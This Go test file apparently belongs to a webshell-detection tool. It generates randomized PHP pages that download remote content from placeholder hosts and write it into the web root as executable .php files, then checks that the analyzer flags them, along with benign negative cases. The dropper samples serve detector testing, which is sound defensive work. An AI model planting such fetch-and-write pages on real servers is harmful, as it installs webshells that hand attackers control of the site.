package webshell

import (
	"fmt"
	"math/rand"
	"sort"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
)

// Techniques, generated: a page that pulls a shell from the web onto the site as a page of
// its own.

// pageDownloaderPages: a page fetches a URL (a literal, through variables and function
// parameters) and writes what it gets into the site under a server page's name, with no
// password and outside any upload directory.
func pageDownloaderPages(r *rand.Rand) []techVariant {
	hosts := []string{"https://raw.example-git.test/" + "u/r/main/", "http://198.51.100.7/", "https://paste.example.org/raw/", "ftp://203.0.113.9/pub/"}
	exts := []string{".php", ".php5", ".phtml", ".php7", ".pht"}
	dirs := []string{
		"$_SERVER['DOCUMENT_ROOT'] . '/'",
		"$_SERVER['DOCUMENT_ROOT'] . DIRECTORY_SEPARATOR",
		"getcwd() . DIRECTORY_SEPARATOR",
		"getcwd() . '/'",
		"__DIR__ . '/'",
		"dirname(__FILE__) . '/'",
		"'./'",
	}
	places := []string{"/var/www/html/wp-content/themes/" + word(r) + "/inc/", "/var/www/html/", "/var/www/html/wp-content/plugins/" + word(r) + "/", "/srv/www/site/public/"}
	var out []techVariant
	for n := 0; n < 36; n++ {
		url := hosts[r.Intn(len(hosts))] + word(r) + []string{".txt", ".php", "", ".jpg"}[r.Intn(4)]
		name := word(r) + exts[r.Intn(len(exts))]
		dir := dirs[r.Intn(len(dirs))]
		u, d, nm, data, h := "$"+word(r), "$"+word(r), "$"+word(r), "$"+word(r), "$"+word(r)
		fetch := []string{
			data + " = file_get_contents(" + u + ");\n",
			data + " = @file_get_contents(" + u + ");\n",
			h + "in = fopen(" + u + ", 'r');\n" + data + " = stream_get_contents(" + h + "in);\n",
			h + "c = curl_init(" + u + ");\ncurl_setopt(" + h + "c, CURLOPT_RETURNTRANSFER, 1);\n" + data + " = curl_exec(" + h + "c);\n",
		}[r.Intn(4)]
		var write string
		target := dir + " . " + nm
		if r.Intn(3) == 0 && strings.HasPrefix(dir, "$_SERVER") {
			target = "\"$_SERVER[DOCUMENT_ROOT]/" + "\" . " + nm
		}
		if r.Intn(3) == 0 {
			// the directory kept in a variable and interpolated
			write = d + " = " + dir + ";\n"
			target = "\"" + d + nm + "\""
		}
		switch r.Intn(3) {
		case 0:
			write += "file_put_contents(" + target + ", " + data + ");\n"
		case 1:
			write += h + " = fopen(" + target + ", 'w');\nfwrite(" + h + ", " + data + ");\nfclose(" + h + ");\n"
		case 2:
			write += h + " = @fopen(" + target + ", 'wb');\nfputs(" + h + ", " + data + ");\n"
		}
		body := fetch + write + "echo 'done';\n"
		var page string
		switch n % 3 {
		case 0:
			// at the top
			page = u + " = '" + url + "';\n" + nm + " = '" + name + "';\n" + body
		case 1:
			// in a function the page calls with the URL and the name
			fn := word(r)
			page = "function " + fn + "(" + nm + ", " + u + ") {\n" + body + "}\n" + fn + "('" + name + "', '" + url + "');\n"
		case 2:
			// through variables handed to a function that copies its parameters
			fn, p1, p2 := word(r), "$"+word(r), "$"+word(r)
			page = "$src = '" + url + "';\n$out = '" + name + "';\nfunction " + fn + "(" + p1 + ", " + p2 + ") {\n" + nm + " = " + p1 + ";\n" + u + " = " + p2 + ";\n" + body + "}\n" + fn + "($out, $src);\n"
		}
		head := "<?php\n"
		if r.Intn(2) == 0 {
			head += "/* " + word(r) + " */\nset_time_limit(0);\n"
		}
		out = append(out, techVariant{"page-downloader", places[r.Intn(len(places))] + word(r) + exts[r.Intn(len(exts))], head + page})
	}
	return out
}

func TestHarnessTechniques3(t *testing.T) {
	r := rand.New(rand.NewSource(12))
	var vs []techVariant
	vs = append(vs, pageDownloaderPages(r)...)
	a := New()
	type tally struct{ found, total int }
	by := map[string]*tally{}
	for _, v := range vs {
		ty := by[v.technique]
		if ty == nil {
			ty = &tally{}
			by[v.technique] = ty
		}
		ty.total++
		fs := a.Analyze(v.path, []byte(v.page))
		if b := best(fs); b == nil || b.Category != audit.CategoryWebshell || b.Severity < audit.High {
			t.Errorf("%s not found:%s\n%s", v.technique, dump(fs), v.page)
			continue
		}
		ty.found++
	}
	names := make([]string, 0, len(by))
	for k := range by {
		names = append(names, k)
	}
	sort.Strings(names)
	for _, k := range names {
		fmt.Printf("harness: webshell/technique-%s %d/%d recall=%.3f\n", k, by[k].found, by[k].total, float64(by[k].found)/float64(by[k].total))
	}
}

// Pages that fetch and write what is no server page, or write a page that was not fetched,
// stay below high.
func TestTechnique3Negatives(t *testing.T) {
	pages := map[string]string{
		// a feed cached beside the page: a downloader of data, medium at most
		"/var/www/html/wp-content/themes/t/inc/feed.php": "<?php\nfunction cache_feed($url, $file) {\n  $x = file_get_contents($url);\n  file_put_contents(__DIR__ . '/' . $file, $x);\n}\ncache_feed('https://news.example.org/rss.xml', 'feed.xml');\n",
		// an updater that fetches an archive into the site
		"/var/www/html/wp-content/plugins/p/update.php": "<?php\n$zip = 'https://downloads.example.org/p-2.1.zip';\n$fp = fopen(__DIR__ . '/upgrade/p.zip', 'w');\nfwrite($fp, file_get_contents($zip));\nfclose($fp);\n",
		// a template compiled to a PHP cache file from a local template
		"/var/www/html/app/render.php": "<?php\n$tpl = file_get_contents(__DIR__ . '/views/home.tpl');\n$code = preg_replace('/\\{\\{(\\w+)\\}\\}/', '<?php echo $$1; ?>', $tpl);\nfile_put_contents(__DIR__ . '/cache/home.php', $code);\n",
		// a remote page written outside the site
		"/var/www/html/tools/mirror.php": "<?php\n$src = 'https://mirror.example.org/lib/loader.php';\nfile_put_contents('/var/lib/mirror/loader.php', file_get_contents($src));\n",
	}
	for p, page := range pages {
		if b := best(New().Analyze(p, []byte(page))); b != nil && b.Severity >= audit.High {
			t.Errorf("%s: %s %s %s\n%s", p, b.Severity, b.Rule, b.Title, page)
		}
	}
}
